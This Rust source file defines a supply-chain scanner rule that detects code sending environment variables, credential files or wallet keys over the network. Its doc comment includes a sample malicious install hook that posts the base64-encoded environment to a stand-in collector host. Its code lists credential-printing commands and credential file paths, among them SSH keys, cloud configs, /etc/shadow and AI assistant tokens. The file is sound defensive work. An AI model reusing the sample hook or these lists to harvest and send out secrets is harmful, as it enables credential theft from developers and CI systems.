//! # Environment or secret data leaves over the network
//!
//! ## What it finds
//! A value that holds environment variables, credential files or a user's other secrets reaches an HTTP, DNS, mail
//! or socket sink, directly or through encoders, containers and calls. What callers hand to a function as a seed phrase,
//! private key or pair of keys is such a secret, if the address is written out.
//!
//! ## Why it matters
//! It is how most malicious packages earn their keep. `ctx` (PyPI, May 2022) posted AWS keys from the environment
//! on import; the Shai-Hulud worm (npm, September 2025) searched the environment and home folder for tokens and
//! published itself with them; releases of `bittensor` (PyPI, 2024) and `@solana/web3.js` (npm, December 2024) sent the keys
//! that wallets handed to them. CI machines hold the most powerful credentials of an organisation in exactly these
//! variables.
//!
//! ## Example
//! ```python
//! class AfterInstall(install):
//!     def run(self):
//!         blob = base64.b64encode(json.dumps(dict(os.environ)).encode())
//!         urlopen(Request("https://collect.example.invalid/c", data=blob))
//! ```
//!
//! ## What to do
//! Do not install the release. If it was installed, rotate every credential that the environment of that machine or
//! job held, and look for the destination in the network logs.
//!
//! ## When it is wrong
//! Clients that read *one named* variable to authenticate to their own service are not reported when the code only
//! runs when called: the token flows into a request, which is what it is for. Nor are settings of the network and of
//! versions to fetch. Crash reporters and telemetry that send selected variables, and programs that sign in to the
//! service after which a variable is named, are reported with less weight; look at the evidence. So is a variable that only
//! this program asks for (`WEATHER_API_KEY`), when its user starts it.
use foretaste_engine::prelude::*;

use foretaste_model::facts::{Resolution, UseKind};

use crate::{code, indicators, variables};

declare_rule! {
    SecretsToNetwork,
    id: "secrets-to-network",
    title: "sends secrets over the network",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1041", "T1552.001", "AV-001"],
    since: "0.1.0",
}

impl ChainRule for SecretsToNetwork {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        if !sink.capability.is_network_sink() || chain.flow.link == FlowLink::Scope {
            return None;
        }
        // what is sent to this machine does not leave it
        if sink
            .constant
            .as_deref()
            .is_some_and(indicators::is_loopback)
        {
            return None;
        }
        // what a vendor's library keeps goes to that vendor's client: that is signing in
        if matches!(
            source.capability,
            Capability::CredentialToken | Capability::CredentialStore
        ) && of_one_vendor(&source.api, &sink.api)
        {
            return None;
        }
        let context = chain.context();
        // it gives the token of the registry that is asked, to whoever asks it
        if &*source.api == "registry-auth-token" && context > ExecutionContext::Import {
            return None;
        }
        // a page that reads its own cookies and talks to its own server is what browsers are for
        let of_page = ["document.cookie", "localStorage", "sessionStorage"]
            .iter()
            .any(|api| source.api.starts_with(api));
        if of_page && context > ExecutionContext::Import {
            return None;
        }
        let what = match read_of(source) {
            Capability::EnvironmentReadAll => "the whole environment",
            Capability::CredentialStore | Capability::CredentialToken => "stored credentials",
            Capability::Wallet => "wallet data",
            // to whom: a wallet that its user chose a node for sends no keys either, but what it sends is not seen
            Capability::SecretParameter
                if sink.constant.as_deref().is_some_and(indicators::is_far)
                    || sink.capability == Capability::NetworkMail =>
            {
                "the keys of a caller's wallet"
            }
            Capability::EnvironmentRead if context < ExecutionContext::Entry => {
                "environment variables"
            }
            // when called, a client sends its own credential to its own service, and only that
            Capability::EnvironmentRead if of_other_service(source, sink) => {
                "the credential of another service"
            }
            // when called, a tool asks git or a cloud's client for what it signs in with
            Capability::ProcessSpawn | Capability::ProcessShell
                if context < ExecutionContext::Entry
                    && source.constant.as_deref().is_some_and(tells_secrets) =>
            {
                "stored credentials"
            }
            Capability::FileRead if source.constant.as_deref().is_some_and(keeps_secrets) => {
                "stored credentials"
            }
            _ => return None,
        };
        let mut finding = self
            .finding(format!(
                "sends {what} over the network {}",
                context.phrase()
            ))
            .context(context);
        if read_of(source) == Capability::EnvironmentRead {
            if source.constant.as_deref().is_some_and(is_setting) {
                return None;
            }
            // one named variable at import time may still be a token for the package's own service
            finding = finding
                .severity(Severity::High)
                .confidence(Confidence::Medium);
            let gathered = sink
                .constant
                .as_deref()
                .and_then(indicators::classify)
                .is_some_and(|d| d.collects() || d.drops());
            // a server for assistants, a script for one service: started by its user, it signs in with what it asked for
            let of_its_own = context == ExecutionContext::Import
                && !gathered
                && source
                    .constant
                    .as_deref()
                    .map(|name| name.trim_end_matches('*'))
                    .is_some_and(variables::is_of_one_program);
            if of_own_service(source, sink) || of_its_own {
                finding = finding.severity(Severity::Low);
            }
        }
        // half of a pair can be a name to ask for; both halves, with a stranger, open the account
        if source.capability == Capability::EnvironmentRead
            && of_other_service(source, sink)
            && sends_the_other_half(chain, sink)
        {
            finding = finding
                .severity(Severity::Critical)
                .confidence(Confidence::Certain);
        }
        // a client that fetches its own credential when called sends it to its own service; nobody signs in by looking up names
        if context > ExecutionContext::Entry
            && sink.capability != Capability::NetworkDns
            && !of_another_vendor(source, sink)
            && matches!(
                source.capability,
                Capability::CredentialStore | Capability::CredentialToken | Capability::FileRead
            )
        {
            finding = finding
                .severity(Severity::High)
                .confidence(Confidence::Medium);
        }
        // a tool that publishes signs in with what its user keeps for that, where the same file says
        let login = source.capability == Capability::FileRead
            && source.constant.as_deref().is_some_and(signs_in);
        let keyring = source.api.starts_with("keyring.get_")
            && !source.constant.as_deref().is_some_and(is_of_browser);
        let collector = sink.constant.as_deref().and_then(indicators::classify);
        if (login || keyring)
            && sink.capability != Capability::NetworkDns
            && context >= ExecutionContext::Entry
            && !collector.is_some_and(|d| d.collects() || d.drops())
        {
            finding = finding
                .severity(Severity::Medium)
                .confidence(Confidence::Medium);
        }
        // who reports what surrounds an error need not make it unreadable first
        if read_of(source) == Capability::EnvironmentReadAll
            && chain.flow.link == FlowLink::Data
            && sink.constant.as_deref().is_some_and(indicators::is_far)
            && chain
                .flow
                .steps
                .iter()
                .any(|s| s.capability == Capability::EncodeText)
        {
            finding = finding.confidence(Confidence::Certain);
        }
        // who sends what it is there to send names the library at the top of the file
        if finding.severity == Severity::Critical
            && chain.flow.link == FlowLink::Data
            && sink.constant.as_deref().is_some_and(indicators::is_far)
            && is_reached_by_a_detour(chain, sink)
        {
            finding = finding.confidence(Confidence::Certain);
        }
        // to make a wallet is to use it at all: what is sent then waits for nobody to ask for it
        if source.capability == Capability::SecretParameter
            && context == ExecutionContext::Called
            && chain.flow.link == FlowLink::Data
            && sink.constant.as_deref().is_some_and(indicators::is_far)
            && code::is_reached_by_a_constructor(&chain.file, chain.flow.function)
        {
            finding = finding.confidence(Confidence::Certain);
        }
        // the library that makes keys is changed as soon as this package is imported: its callers need not know this one
        if source.capability == Capability::Wallet
            && context > ExecutionContext::Import
            && replaces_key_functions(&chain.file)
        {
            finding = finding.confidence(Confidence::Certain);
        }
        // a report of errors that its user agrees to
        if finding.severity == Severity::Critical && code::asks_first(chain) {
            finding = finding
                .severity(Severity::High)
                .confidence(Confidence::Medium);
        }
        finding.evidence = chain.evidence(|step| step.api.to_string());
        Some(finding)
    }
}

/// What a program reads: with `PREFIX_*` those variables of the environment that are its own; with a prefix that others
/// use, it may as well be all of it.
fn read_of(source: &Step) -> Capability {
    let prefix = source.constant.as_deref().and_then(|c| c.strip_suffix('*'));
    match (source.capability, prefix) {
        (Capability::EnvironmentRead, Some(prefix)) if !variables::is_of_one_program(prefix) => {
            Capability::EnvironmentReadAll
        }
        (capability, _) => capability,
    }
}

/// True for the entries of keyrings in which browsers keep the key of what they store.
fn is_of_browser(entry: &str) -> bool {
    let entry = entry.to_lowercase();
    entry.contains("safe storage") || entry.contains("browser")
}

/// True if the API that sends is reached through `__import__`, `getattr` or the like.
fn is_reached_by_a_detour(chain: &Chain<'_>, sink: &Step) -> bool {
    chain
        .file
        .facts
        .uses
        .iter()
        .any(|u| u.span == sink.span && u.api == sink.api && u.resolution == Resolution::Reflected)
}

/// True if importing the file puts something in the place of a wallet library's functions.
fn replaces_key_functions(file: &FileView<'_>) -> bool {
    file.facts.uses.iter().any(|u| {
        u.kind == UseKind::Write
            && u.capability == Capability::Wallet
            && file.context(u.function) <= ExecutionContext::Import
    })
}

/// Command lines whose output is a credential of the user's.
fn tells_secrets(command: &str) -> bool {
    const TELL: &[&[&str]] = &[
        &["git", "credential", "fill"],
        &["git", "credential-", "get"],
        &["gh", "auth", "token"],
        &["gcloud", "auth", "print-"],
        &["aws", "configure", "get"],
        &["aws", "configure", "export-credentials"],
        &["az", "account", "get-access-token"],
        &["kubectl", "config", "view", "--raw"],
        &["docker-credential-", "get"],
        &["security", "find-", "-password"],
        &["secret-tool", "lookup"],
        &["npm", "config", "get", "_authtoken"],
        &["op", "read", "op://"],
        &["pass", "show"],
        &["vault", "token", "lookup"],
        &["gpg", "--export-secret-keys"],
    ];
    let command = command.to_lowercase();
    let program = code::words(&command).next().map_or("", code::program_name);
    TELL.iter().any(|parts| {
        parts.split_first().is_some_and(|(first, rest)| {
            program.starts_with(first) && rest.iter().all(|part| command.contains(part))
        })
    })
}

/// Files in which programs keep the keys to other machines and accounts; lower case, forward slashes.
fn keeps_secrets(path: &str) -> bool {
    const KEPT: &[&str] = &[
        ".aws/credentials",
        ".ssh/id_",
        ".ssh/{}",
        ".kube/config",
        ".docker/config.json",
        ".config/gh/hosts.yml",
        ".npmrc",
        ".pypirc",
        ".git-credentials",
        ".cargo/credentials",
        "solana/id.json",
        "wallet.dat",
        "/etc/shadow",
        ".vault-token",
        ".terraform.d/credentials",
        ".gem/credentials",
        ".composer/auth.json",
        ".config/composer/auth.json",
        "application_default_credentials.json",
        ".config/github-copilot/",
        // what assistants sign in with, and the servers that they were told the keys of
        ".claude.json",
        ".claude/.credentials.json",
        ".codex/auth.json",
        ".gemini/oauth_creds.json",
        ".cursor/mcp.json",
        "claude_desktop_config.json",
    ];
    let path = path.to_lowercase().replace('\\', "/");
    // every key in the folder, or the variables of a project
    let whole = path.trim_end_matches(['*', '/']).ends_with(".ssh");
    let name = path.rsplit('/').next().unwrap_or(&path);
    let of_project = name == ".env" || (name.starts_with(".env.") && !is_sample(name));
    whole || of_project || KEPT.iter().any(|kept| path.contains(kept))
}

/// True for what a project shows in place of its variables.
fn is_sample(name: &str) -> bool {
    ["example", "sample", "template", "dist", "test"]
        .iter()
        .any(|end| name.ends_with(end))
}

/// True for the file in which what publishes packages finds its credentials.
fn signs_in(path: &str) -> bool {
    let path = path.to_lowercase();
    path.ends_with(".pypirc") || path.ends_with(".npmrc")
}

/// True for a variable that tells how to reach the network, or which version of something to fetch.
fn is_setting(name: &str) -> bool {
    const OF_NETWORK: &[&str] = &[
        "http_proxy",
        "https_proxy",
        "all_proxy",
        "no_proxy",
        "ssl_cert_file",
        "ssl_cert_dir",
        "requests_ca_bundle",
        "curl_ca_bundle",
        "node_extra_ca_certs",
        "node_tls_reject_unauthorized",
    ];
    /// What says where something lies or what it is for; an address can hold a password and is none of these.
    const PLACES: &[&str] = &[
        "_path",
        "_dir",
        "_mirror",
        "_cdnurl",
        "_platform",
        "_arch",
        "_channel",
    ];
    let name = name.to_ascii_lowercase();
    let name = name.strip_prefix("npm_config_").unwrap_or(&name);
    let of_place = PLACES.iter().any(|end| name.ends_with(end));
    name.ends_with("_version") || of_place || OF_NETWORK.contains(&name)
}

/// True if a variable is named after the host that it is sent to: `GITHUB_API_TOKEN`, `api.github.com`.
fn of_own_service(source: &Step, sink: &Step) -> bool {
    let (Some(name), Some(destination)) = (source.constant.as_deref(), sink.constant.as_deref())
    else {
        return false;
    };
    let host = indicators::host_of(destination).unwrap_or_default();
    // the name that somebody registered: before the last dot
    let registered = host.rsplit('.').nth(1).unwrap_or("");
    registered.len() >= 4
        && name
            .to_lowercase()
            .split('_')
            .any(|word| word == registered)
}

/// True if a variable holds the key to a well-known service, and the destination is known and is not that service.
fn of_other_service(source: &Step, sink: &Step) -> bool {
    const KEYS: &[(&str, &[&str])] = &[
        ("AWS_ACCESS_KEY", &["aws"]),
        ("AWS_SECRET_ACCESS_KEY", &["aws"]),
        ("AWS_SESSION_TOKEN", &["aws"]),
        ("AZURE_CLIENT_SECRET", &["azure", "microsoft", "windows"]),
        ("GITHUB_TOKEN", &["github", "ghe"]),
        ("GITLAB_TOKEN", &["gitlab"]),
        ("NPM_TOKEN", &["npm"]),
        ("PYPI_TOKEN", &["pypi"]),
        ("CARGO_REGISTRY_TOKEN", &["crates"]),
        ("OPENAI_API_KEY", &["openai", "azure"]),
        ("ANTHROPIC_API_KEY", &["anthropic"]),
    ];
    let (Some(name), Some(destination)) = (source.constant.as_deref(), sink.constant.as_deref())
    else {
        return false;
    };
    // the host must stand there: what a setting or argument names may be anything
    let host = indicators::host_of(destination).unwrap_or_default();
    host.contains('.')
        && KEYS.iter().any(|(key, services)| {
            name.starts_with(key) && !services.iter().any(|s| host.contains(s))
        })
}

/// True if the same request carries both the name and the secret of a pair of keys.
fn sends_the_other_half(chain: &Chain<'_>, sink: &Step) -> bool {
    const PAIRS: &[(&str, &str)] = &[
        ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"),
        ("AZURE_CLIENT_ID", "AZURE_CLIENT_SECRET"),
    ];
    let flows = chain.file.facts.flows.iter();
    let carried: Vec<&str> = flows
        .filter(|f| f.link == FlowLink::Data)
        .filter(|f| f.steps.last().is_some_and(|s| s.span == sink.span))
        .filter_map(|f| f.steps.first())
        .filter(|s| s.capability == Capability::EnvironmentRead)
        .filter_map(|s| s.constant.as_deref())
        .collect();
    PAIRS
        .iter()
        .any(|(name, secret)| carried.contains(name) && carried.contains(secret))
}

/// True for a cloud's own credentials that go to a host which stands in the code and is not that cloud's.
fn of_another_vendor(source: &Step, sink: &Step) -> bool {
    const CLOUDS: &[(&str, &[&str])] = &[
        ("boto", &["aws"]),
        ("google", &["google"]),
        ("azure", &["azure", "microsoft", "windows"]),
    ];
    let Some(address) = sink.constant.as_deref().filter(|a| indicators::is_far(a)) else {
        return false;
    };
    let host = indicators::host_of(address).unwrap_or_default();
    CLOUDS.iter().any(|(library, hosts)| {
        source.api.starts_with(library)
            && !host.is_empty()
            && !hosts.iter().any(|part| host.contains(part))
    })
}

/// True for a credential library and a client of one vendor: `google.auth` and `googleapiclient`, `azure.identity` and
/// `azure.storage`. General clients (`requests`, `urllib`) share their first name with no credential library.
fn of_one_vendor(source: &str, sink: &str) -> bool {
    let vendor = source.split('.').next().unwrap_or(source);
    vendor.len() >= 4 && vendor != source && sink.starts_with(vendor)
}
